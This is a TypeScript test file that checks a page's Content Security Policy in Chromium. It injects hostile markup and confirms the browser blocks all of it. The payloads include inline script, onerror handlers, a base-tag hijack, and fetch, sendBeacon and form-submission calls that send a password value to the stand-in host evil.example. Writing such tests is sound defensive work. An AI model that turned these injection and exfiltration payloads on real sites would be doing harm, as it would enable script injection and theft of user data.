import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { describe, expect, it, onTestFinished } from 'vitest'
import { browser, hasChromium } from '../support/chromium.ts'
import { built, opener, place } from './helpers/visit.ts'

const EVIL = 'https://evil.example'
const OWN = "window.owned = 'by markup'"
/** As though a mistake of ours let somebody write into the page: the browser must stop it. */
const injected = `<base href="${EVIL}/base/">
  <script>${OWN}</script><script src="${EVIL}/script.js"></script><img src="none:" onerror="${OWN}">
  <img src="${EVIL}/picture.png"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
  <style>body { display: none }</style><p style="display: none">styled</p><link rel="stylesheet" href="${EVIL}/style.css">
  <iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/object"></object><video src="${EVIL}/video"></video>
  <form id="away" action="${EVIL}/form"><input name="password" value="k7mq"></form>`

/** Done by a script that got in nevertheless. */
const acts = `fetch('${EVIL}/fetch').catch(() => undefined)
  navigator.sendBeacon('${EVIL}/beacon', 'k7mq')
  document.getElementById('away').submit()`

const REFUSED = [
  `base-uri ${EVIL}/base/`,
  `connect-src ${EVIL}/beacon`,
  `connect-src ${EVIL}/fetch`,
  `form-action ${EVIL}/form?password=k7mq`,
  `frame-src ${EVIL}`,
  'img-src data',
  `img-src ${EVIL}/picture.png`,
  'img-src none',
  `media-src ${EVIL}/video`,
  `object-src ${EVIL}`,
  'script-src-attr inline',
  `script-src-elem ${EVIL}/script.js`,
  'script-src-elem inline',
  'style-src-attr inline',
  `style-src-elem ${EVIL}/style.css`,
  'style-src-elem inline',
].sort()

describe.runIf(hasChromium)('the policy of the page', () => {
  it.each(['from a file', 'served'])('stops what is written into it: %s', async how => {
    await built
    const path = join(place, 'injected.html')
    writeFileSync(path, readFileSync(opener, 'utf8').replace('<body>', `<body>${injected}`))
    const url = how === 'served' ? 'https://opener.example/' : pathToFileURL(path).href
    const context = await (await browser()).newContext()
    onTestFinished(() => context.close())
    const reached: string[] = []
    // the network lies behind the policy: what the browser refuses never comes here
    await context.route(/^(?!file:)/, route => {
      if (route.request().url() === url) return route.fulfill({ contentType: 'text/html', path })
      reached.push(route.request().url())
      return route.abort()
    })
    const page = await context.newPage()
    await page.addInitScript(`window.refused = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        refused.push(effectiveDirective + ' ' + blockedURI))`)
    await page.goto(url)
    await page.evaluate(acts)
    const refused = () => page.evaluate<string[]>('[...new Set(refused)].sort()')
    await expect.poll(refused).toEqual(REFUSED)
    expect(await page.evaluate('window.owned')).toBeUndefined()
    expect(await page.evaluate('document.baseURI')).toBe(url)
    expect(await page.getByText('styled').isVisible()).toBe(true)
    expect(await page.getByRole('button', { name: 'Choose the archive' }).isVisible()).toBe(true)
    expect(page.url()).toBe(url)
    expect(reached).toEqual([])
  })
})
